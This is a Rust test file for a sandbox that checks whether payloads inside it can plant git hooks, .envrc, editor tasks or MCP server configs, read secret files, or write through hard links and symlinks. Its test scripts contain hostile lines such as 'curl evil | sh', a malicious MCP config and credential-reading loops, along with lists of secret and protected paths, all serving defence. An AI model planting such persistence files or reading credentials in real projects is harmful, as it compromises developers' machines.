//! Attacks through the project tree: what a payload can read there, and
//! what it can leave behind for the host to run or write through later.
//! Each test performs the attack for real, as root and as an unprivileged
//! user, and checks the host side after the run.

mod support;

use std::os::unix::fs::MetadataExt;

use support::{assert_ok, identities, Project, Who};

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Renaming `.git` out from under its read-only hooks, copying it back and
/// planting a hook in the copy must not work: the ancestors are pinned.
#[test]
fn a_hook_cannot_be_planted_by_moving_git_around_its_protected_hooks() {
    for who in identities("a_hook_cannot_be_planted_by_moving_git_around_its_protected_hooks") {
        let project = Project::new(who);
        project.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        project.write(".git/config", "[core]\n\tbare = false\n");
        project.write("lib/.git/config", "[core]\n");
        let script = r#"
            mv .git .git-moved 2>/dev/null && echo MOVED-GIT
            rm -rf .git 2>/dev/null; [ -d .git/hooks ] || echo REMOVED-GIT
            mv .git/hooks .git/hooks-moved 2>/dev/null && echo MOVED-HOOKS
            cp -a .git /tmp/copy && mkdir -p /tmp/copy/hooks && echo 'touch /tmp/pwned' > /tmp/copy/hooks/pre-commit
            cp -a /tmp/copy/. .git/ 2>/dev/null && echo COPIED-BACK
            echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo PLANTED
            printf '[core]\n\thooksPath = /tmp/evil\n' >> .git/config 2>/dev/null && echo CONFIG-WRITTEN
            mv lib lib-moved 2>/dev/null && echo MOVED-LIB
            echo '[core] fsmonitor = evil' > lib/.git/config 2>/dev/null && echo SUB-CONFIG-WRITTEN
            echo checked
        "#;
        let out = project.sh_ok(script);
        for forbidden in [
            "MOVED-GIT",
            "REMOVED-GIT",
            "MOVED-HOOKS",
            "PLANTED",
            "CONFIG-WRITTEN",
            "MOVED-LIB",
            "SUB-CONFIG-WRITTEN",
        ] {
            assert!(!out.contains(forbidden), "{who:?}: {forbidden} in {out}");
        }
        let root = project.path();
        assert!(!root.join(".git/hooks/pre-commit").exists(), "{who:?}");
        assert!(!root.join(".git-moved").exists(), "{who:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".git/config")).unwrap(),
            "[core]\n\tbare = false\n"
        );
        assert_eq!(
            std::fs::read_to_string(root.join("lib/.git/config")).unwrap(),
            "[core]\n"
        );
    }
}

/// Protected names that did not exist (no mount could cover them) and that
/// the run creates are renamed out of use once the run is over; nothing is
/// deleted, and the report lists them.
#[test]
fn protected_entries_a_run_creates_are_moved_out_of_use() {
    for who in identities("protected_entries_a_run_creates_are_moved_out_of_use") {
        let project = Project::new(who);
        project.write("README", "hi\n");
        let report = project.path().join("report.json");
        let out = project.run_with(
            &["--report", report.to_str().unwrap()],
            &[
                "/bin/sh",
                "-c",
                "echo 'curl evil | sh' > .envrc && mkdir -p .vscode deep/sub/.git/hooks && \
                 echo '{\"tasks\": []}' > .vscode/tasks.json && \
                 echo evil > deep/sub/.git/hooks/post-checkout && \
                 echo 'gitdir: ../x' > deep/.git && echo '{}' > .mcp.json && \
                 mkdir .husky && echo evil > .husky/pre-commit && \
                 echo 'repos: [{repo: local}]' > .pre-commit-config.yaml && echo ok > output.txt",
            ],
        );
        assert_ok(&out, "planting protected names");
        let root = project.path();
        for planted in [
            ".envrc",
            ".vscode",
            "deep/sub/.git/hooks",
            "deep/.git",
            ".mcp.json",
            ".husky",
            ".pre-commit-config.yaml",
        ] {
            assert!(
                !root.join(planted).exists(),
                "{who:?}: {planted} left in place"
            );
            assert!(
                stderr(&out).contains(&format!("protected entry {planted}")),
                "{who:?}: {}",
                stderr(&out)
            );
        }
        let moved: Vec<String> = std::fs::read_dir(root)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".envrc.sandbox-quarantine-"))
            .collect();
        assert_eq!(moved.len(), 1, "{who:?}: {moved:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(&moved[0])).unwrap(),
            "curl evil | sh\n",
            "nothing is lost"
        );
        assert_eq!(
            std::fs::read_to_string(root.join("output.txt")).unwrap(),
            "ok\n"
        );
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
        assert_eq!(
            report["quarantined"].as_array().unwrap().len(),
            7,
            "{report}"
        );
    }
}

/// Secrets are hidden at any depth, including under a second hard-linked
/// name; `.env.example` stays readable.
#[test]
fn secrets_are_hidden_at_any_depth() {
    for who in identities("secrets_are_hidden_at_any_depth") {
        let project = Project::new(who);
        for secret in [
            ".env",
            "services/api/.env",
            "services/api/.env.production",
            ".aws/credentials",
            "deploy/.ssh/id_ed25519",
            "tls/server.key",
            "tls/ca.pem",
            "a/b/c/.netrc",
        ] {
            project.write(secret, "TOPSECRET\n");
        }
        project.write("services/api/.env.example", "KEY=placeholder\n");
        std::fs::hard_link(
            project.path().join(".env"),
            project.path().join("innocent.txt"),
        )
        .unwrap();
        let out = project.sh_ok(
            "for f in .env services/api/.env services/api/.env.production .aws/credentials \
             deploy/.ssh/id_ed25519 tls/server.key tls/ca.pem a/b/c/.netrc innocent.txt; do \
             cat $f 2>/dev/null; done; cat services/api/.env.example; echo checked",
        );
        assert!(!out.contains("TOPSECRET"), "{who:?}: {out}");
        assert!(out.contains("KEY=placeholder"), "{who:?}: {out}");
    }
}

/// A file in the project hard-linked to a file outside it: writing,
/// truncating or chmod-ing it in the sandbox must not change the outside file.
#[test]
fn a_hard_link_to_a_file_outside_cannot_be_written_through() {
    for who in identities("a_hard_link_to_a_file_outside_cannot_be_written_through") {
        let project = Project::new(who);
        let outside = tempfile::Builder::new()
            .prefix("sandbox-outside-")
            .tempdir_in("/tmp")
            .unwrap();
        // Same filesystem as the project, so the link can exist.
        let victim = outside.path().join("victim");
        std::fs::write(&victim, "original\n").unwrap();
        if who == Who::User {
            let (uid, gid) = support::user_ids();
            std::os::unix::fs::chown(&victim, Some(uid), Some(gid)).unwrap();
        }
        std::fs::hard_link(&victim, project.path().join("linked")).unwrap();
        let mode_before = std::fs::metadata(&victim).unwrap().mode();
        let out = project.sh_ok(
            "echo evil >> linked 2>/dev/null && echo APPENDED; truncate -s 0 linked 2>/dev/null && echo TRUNCATED; \
             chmod 777 linked 2>/dev/null && echo CHMODDED; cat linked; echo checked",
        );
        assert!(
            out.contains("original"),
            "{who:?}: the file stays readable: {out}"
        );
        for forbidden in ["APPENDED", "TRUNCATED", "CHMODDED"] {
            assert!(!out.contains(forbidden), "{who:?}: {forbidden}: {out}");
        }
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
        assert_eq!(std::fs::metadata(&victim).unwrap().mode(), mode_before);

        // A profile can refuse instead, naming the file and the fix.
        let refused = project.run_with_profile(
            "version = 1\nextends = \"strict\"\n[filesystem]\nhardlinks = \"refuse\"\n",
            &[],
            &["/bin/true"],
        );
        assert_eq!(refused.status.code(), Some(125), "{who:?}");
        let err = stderr(&refused);
        assert!(err.contains("linked") && err.contains("Fix:"), "{err}");
    }
}

/// Started from a home directory without --project, a run refuses rather
/// than make the whole home its writable project.
#[test]
fn a_home_directory_is_never_an_implicit_project() {
    for who in identities("a_home_directory_is_never_an_implicit_project") {
        let home = Project::new(who);
        let mut cmd = home.command();
        cmd.env("HOME", home.path())
            .args(["run", "--", "/bin/true"])
            .stdin(std::process::Stdio::null());
        let out = cmd.output().unwrap();
        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("is a home directory") && stderr(&out).contains("--project"),
            "{}",
            stderr(&out)
        );
        // Its parent contains it.
        let mut cmd = home.command();
        cmd.current_dir("/tmp")
            .env("HOME", home.path())
            .args(["run", "--", "/bin/true"])
            .stdin(std::process::Stdio::null());
        let out = cmd.output().unwrap();
        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("contains the home directory"),
            "{}",
            stderr(&out)
        );
        // Named explicitly, it is the user's call.
        let mut cmd = home.command();
        cmd.env("HOME", home.path())
            .args(["run", "--project"])
            .arg(home.path())
            .args(["--", "/bin/true"])
            .stdin(std::process::Stdio::null());
        let out = cmd.output().unwrap();
        assert_ok(&out, "an explicit --project");
        assert!(stdout(&out).is_empty());
    }
}

/// When the supervisor is SIGKILLed mid-run, its janitor still moves what
/// the run planted out of use once the run is gone: with a cgroup (root
/// here) and without one (the unprivileged user here has none).
#[test]
fn the_janitor_sweeps_when_the_supervisor_is_killed() {
    for who in identities("the_janitor_sweeps_when_the_supervisor_is_killed") {
        let project = Project::new(who);
        project.write("README", "hi\n");
        let mut child = project
            .command()
            .args([
                "run",
                "--",
                "/bin/sh",
                "-c",
                // Killed by the test once ready, however long that takes.
                "echo evil > .envrc; touch ready; sleep 3600",
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let ready = project.path().join("ready");
        support::wait::until_true(
            "the payload to start",
            std::time::Duration::from_secs(60),
            || ready.exists(),
        );
        child.kill().unwrap();
        child.wait().unwrap();
        let envrc = project.path().join(".envrc");
        support::wait::holds_within(std::time::Duration::from_secs(60), || !envrc.exists());
        assert!(!envrc.exists(), "{who:?}: the janitor left .envrc in place");
    }
}

/// The broker acts for the payload, so it must not read a secret at any
/// depth or write a protected entry the payload's own view refuses, even
/// with every write granted.
#[test]
fn the_broker_neither_reads_secrets_nor_writes_protected_entries() {
    for who in identities("the_broker_neither_reads_secrets_nor_writes_protected_entries") {
        let project = Project::new(who);
        project.write("svc/.env", "TOPSECRET\n");
        project.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        let out = project.run_with(
            &["--grant", "fs.write", "--grant", "fs.mkdir"],
            &[
                "/bin/sh",
                "-c",
                r#"sandbox ipc fs.read '{"path": "svc/.env"}';
                   sandbox ipc fs.list '{"path": "svc"}';
                   sandbox ipc fs.write '{"path": ".git/hooks/pre-commit", "content": "evil"}';
                   sandbox ipc fs.write '{"path": ".envrc", "content": "evil"}';
                   sandbox ipc fs.mkdir '{"path": ".vscode"}';
                   sandbox ipc fs.write '{"path": "fine.txt", "content": "fine"}'"#,
            ],
        );
        let (out_text, err_text) = (stdout(&out), stderr(&out));
        assert!(
            !out_text.contains("TOPSECRET") && !out_text.contains(".env"),
            "{who:?}: {out_text}"
        );
        assert!(
            err_text.contains("svc/.env is a secret"),
            "{who:?}: {err_text}"
        );
        assert_eq!(
            err_text.matches("is protected").count(),
            3,
            "{who:?}: {err_text}"
        );
        let root = project.path();
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert!(!root.join(".envrc").exists() && !root.join(".vscode").exists());
        assert_eq!(
            std::fs::read_to_string(root.join("fine.txt")).unwrap(),
            "fine"
        );
    }
}

/// A secret or protected name that is a symlink cannot be mounted over (a
/// mount follows the link); what it points at in the project is covered
/// instead, so neither name shows the secret or takes a write.
#[test]
fn secret_and_protected_symlinks_cover_what_they_point_at() {
    for who in identities("secret_and_protected_symlinks_cover_what_they_point_at") {
        let project = Project::new(who);
        project.write("config/production.cfg", "TOPSECRET\n");
        project.write("editor/settings.json", "{}\n");
        std::os::unix::fs::symlink("config/production.cfg", project.path().join(".env")).unwrap();
        std::os::unix::fs::symlink("editor", project.path().join(".vscode")).unwrap();
        let out = project.sh_ok(
            "cat .env config/production.cfg 2>/dev/null; \
             echo '{\"tasks\": [\"evil\"]}' > .vscode/tasks.json 2>/dev/null && echo PLANTED; \
             echo evil > editor/settings.json 2>/dev/null && echo CHANGED; echo checked",
        );
        assert!(!out.contains("TOPSECRET"), "{who:?}: {out}");
        assert!(
            !out.contains("PLANTED") && !out.contains("CHANGED"),
            "{who:?}: {out}"
        );
        assert!(!project.path().join("editor/tasks.json").exists());
        assert_eq!(
            std::fs::read_to_string(project.path().join("editor/settings.json")).unwrap(),
            "{}\n"
        );
    }
}

/// The broker writes on the host, not through the view: a request through a
/// protected symlink must be refused as the view refuses it.
#[test]
fn the_broker_does_not_write_through_a_protected_symlink() {
    for who in identities("the_broker_does_not_write_through_a_protected_symlink") {
        let project = Project::new(who);
        project.write("editor/settings.json", "{}\n");
        project.write("config/production.cfg", "TOPSECRET\n");
        std::os::unix::fs::symlink("editor", project.path().join(".vscode")).unwrap();
        std::os::unix::fs::symlink("config/production.cfg", project.path().join(".env")).unwrap();
        let out = project.run_with(
            &["--grant", "fs.write"],
            &[
                "/bin/sh",
                "-c",
                r#"sandbox ipc fs.write '{"path": ".vscode/tasks.json", "content": "evil"}';
                   sandbox ipc fs.write '{"path": "editor/tasks.json", "content": "evil"}';
                   sandbox ipc fs.read '{"path": ".env"}';
                   sandbox ipc fs.read '{"path": "config/production.cfg"}'"#,
            ],
        );
        let (out_text, err_text) = (stdout(&out), stderr(&out));
        assert!(!out_text.contains("TOPSECRET"), "{who:?}: {out_text}");
        assert!(
            !project.path().join("editor/tasks.json").exists(),
            "{who:?}: {err_text}"
        );
        assert_eq!(
            err_text.matches("is protected").count(),
            2,
            "{who:?}: {err_text}"
        );
    }
}

/// Agent hosts read their configuration from the project and start the
/// programs it names outside any sandbox (Cursor's and Codex's MCP
/// servers): a run may neither plant one nor change one that is there.
#[test]
fn agent_host_configuration_cannot_be_planted_or_changed() {
    for who in identities("agent_host_configuration_cannot_be_planted_or_changed") {
        let project = Project::new(who);
        project.write("existing/.cursor/mcp.json", "{\"mcpServers\": {}}\n");
        let evil_mcp =
            r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "touch /tmp/pwned"]}}}"#;
        let script = format!(
            "mkdir -p .cursor .codex && echo '{evil_mcp}' > .cursor/mcp.json && \
             printf '[mcp_servers.x]\\ncommand = \"sh\"\\n' > .codex/config.toml && \
             echo '{evil_mcp}' > existing/.cursor/mcp.json 2>/dev/null && echo CHANGED; \
             rm -rf existing/.cursor 2>/dev/null && echo REMOVED; \
             mv existing/.cursor existing/moved 2>/dev/null && echo MOVED; echo checked"
        );
        let out = project.sh_ok(&script);
        for forbidden in ["CHANGED", "REMOVED", "MOVED"] {
            assert!(!out.contains(forbidden), "{who:?}: {forbidden} in {out}");
        }
        let root = project.path();
        assert_eq!(
            std::fs::read_to_string(root.join("existing/.cursor/mcp.json")).unwrap(),
            "{\"mcpServers\": {}}\n",
            "{who:?}"
        );
        for planted in [".cursor/mcp.json", ".codex/config.toml"] {
            assert!(
                !root.join(planted).exists(),
                "{who:?}: {planted} left in place"
            );
        }
        let names: Vec<String> = std::fs::read_dir(root)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        for dir in [".cursor", ".codex"] {
            assert!(
                names
                    .iter()
                    .any(|n| n.starts_with(&format!("{dir}.sandbox-quarantine-"))),
                "{who:?}: {dir} not quarantined: {names:?}"
            );
        }
    }
}

/// A profile's `secrets_add`/`secrets_remove` and `protect_add`/
/// `protect_remove` decide what a run sees and may write: checked from
/// inside a real run, against a control under plain `strict` that shows
/// each file starts on the other side.
#[test]
fn profile_list_adjustments_change_what_a_run_sees_and_writes() {
    const PROFILE: &str = r#"version = 1
extends = "strict"
[filesystem]
secrets_add = ["private.txt"]
secrets_remove = ["*.key"]
protect_add = ["Makefile.local"]
protect_remove = [".idea/"]
"#;
    let script = "cat private.txt tls/server.key; \
                  echo changed >> Makefile.local 2>/dev/null && echo MAKEFILE-WRITTEN; \
                  echo changed >> .idea/workspace.xml 2>/dev/null && echo IDEA-WRITTEN; \
                  echo checked";
    for who in identities("profile_list_adjustments_change_what_a_run_sees_and_writes") {
        let project = Project::new(who);
        project.write("private.txt", "PRIVATE-CONTENT\n");
        project.write("tls/server.key", "KEY-CONTENT\n");
        project.write("Makefile.local", "all:\n");
        project.write(".idea/workspace.xml", "<xml/>\n");

        let control = project.run_with(&["--profile", "strict"], &["/bin/sh", "-c", script]);
        assert_ok(&control, "control under strict");
        let control = stdout(&control);
        assert!(control.contains("PRIVATE-CONTENT"), "{who:?}: {control}");
        assert!(!control.contains("KEY-CONTENT"), "{who:?}: {control}");
        assert!(control.contains("MAKEFILE-WRITTEN"), "{who:?}: {control}");
        assert!(!control.contains("IDEA-WRITTEN"), "{who:?}: {control}");

        let out = project.run_with_profile(PROFILE, &[], &["/bin/sh", "-c", script]);
        assert_ok(&out, "adjusted profile");
        let out = stdout(&out);
        assert!(
            !out.contains("PRIVATE-CONTENT"),
            "{who:?}: secrets_add hides: {out}"
        );
        assert!(
            out.contains("KEY-CONTENT"),
            "{who:?}: secrets_remove shows: {out}"
        );
        assert!(
            !out.contains("MAKEFILE-WRITTEN"),
            "{who:?}: protect_add makes read-only: {out}"
        );
        assert!(
            out.contains("IDEA-WRITTEN"),
            "{who:?}: protect_remove makes writable: {out}"
        );
        let root = project.path();
        assert_eq!(
            std::fs::read_to_string(root.join("Makefile.local")).unwrap(),
            "all:\nchanged\n",
            "only the control run wrote it"
        );
    }
}

/// Waits until the newest ctime below `root` is more than two seconds in
/// the past, the age from which a scan records a directory for the sweep
/// after the run to keep unlisted while it is unchanged: a condition on
/// the clock, not a guess of how long that takes.
fn until_old_enough_to_be_recorded(root: &std::path::Path) {
    fn newest(path: &std::path::Path) -> i64 {
        let meta = std::fs::symlink_metadata(path).unwrap();
        let mut ctime = meta.ctime();
        if meta.is_dir() {
            for entry in std::fs::read_dir(path).unwrap() {
                ctime = ctime.max(newest(&entry.unwrap().path()));
            }
        }
        ctime
    }
    let newest = newest(root);
    let now = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64
    };
    while now() <= newest + 2 {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// Deep in a tree the scan saw unchanged (so the sweep after the run takes
/// those directories as listed), protected names the run plants are still
/// found and moved aside, even when the run puts the directories' times
/// back: their ctime, which no call but the clock sets, changed.
#[test]
fn protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside() {
    for who in identities("protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside") {
        let project = Project::new(who);
        for dir in 0..20 {
            project.write(&format!("node_modules/p{dir}/lib/deep/index.js"), "x\n");
        }
        until_old_enough_to_be_recorded(project.path());
        let out = project.sh_ok(
            "d=node_modules/p13/lib/deep; touch -r $d/index.js /tmp/was; \
             echo 'curl evil | sh' > $d/.envrc && mkdir $d/.vscode && \
             echo '{}' > $d/.vscode/tasks.json && mkdir -p node_modules/p7/.git/hooks && \
             touch -r /tmp/was $d node_modules/p7 && echo ok",
        );
        assert!(out.contains("ok"), "{who:?}: {out}");
        let root = project.path();
        for planted in [
            "node_modules/p13/lib/deep/.envrc",
            "node_modules/p13/lib/deep/.vscode",
            "node_modules/p7/.git/hooks",
        ] {
            assert!(
                !root.join(planted).exists(),
                "{who:?}: {planted} left in place"
            );
        }
        let names: Vec<String> = std::fs::read_dir(root.join("node_modules/p13/lib/deep"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(
            names
                .iter()
                .any(|n| n.starts_with(".envrc.sandbox-quarantine-")),
            "{who:?}: {names:?}"
        );
    }
}

/// Each run answers for the tree as it is then: a secret, a name deep in
/// the project for a file outside, and a name outside for a file already
/// deep inside (which changes no directory of the project, only the
/// file's link count), all made between two runs, are hidden or read-only
/// in the second.
#[test]
fn a_secret_and_hard_links_made_between_two_runs_are_covered_by_the_second() {
    for who in identities("a_secret_and_hard_links_made_between_two_runs_are_covered_by_the_second")
    {
        let project = Project::new(who);
        let deep = "node_modules/a/node_modules/b/lib/x";
        project.write(&format!("{deep}/index.js"), "x\n");
        project.write(&format!("{deep}/shared.js"), "original\n");
        let outside = tempfile::Builder::new()
            .prefix("sandbox-outside-")
            .tempdir_in("/tmp")
            .unwrap();
        let first = project.sh_ok(&format!("cat {deep}/shared.js"));
        assert_eq!(first, "original\n", "{who:?}");

        project.write(&format!("{deep}/.env"), "TOPSECRET=1\n");
        let victim = outside.path().join("victim");
        std::fs::write(&victim, "original\n").unwrap();
        if who == Who::User {
            let (uid, gid) = support::user_ids();
            std::os::unix::fs::chown(&victim, Some(uid), Some(gid)).unwrap();
        }
        std::fs::hard_link(&victim, project.path().join(deep).join("linked.js")).unwrap();
        let clone = outside.path().join("clone-of-shared.js");
        std::fs::hard_link(project.path().join(deep).join("shared.js"), &clone).unwrap();

        let out = project.sh_ok(&format!(
            "cd {deep}; cat .env; echo evil >> linked.js 2>/dev/null && echo APPENDED-LINKED; \
             echo evil >> shared.js 2>/dev/null && echo APPENDED-SHARED; echo checked"
        ));
        assert!(out.contains("checked"), "{who:?}: {out}");
        for forbidden in ["TOPSECRET", "APPENDED-LINKED", "APPENDED-SHARED"] {
            assert!(!out.contains(forbidden), "{who:?}: {forbidden}: {out}");
        }
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
        assert_eq!(std::fs::read_to_string(&clone).unwrap(), "original\n");
    }
}
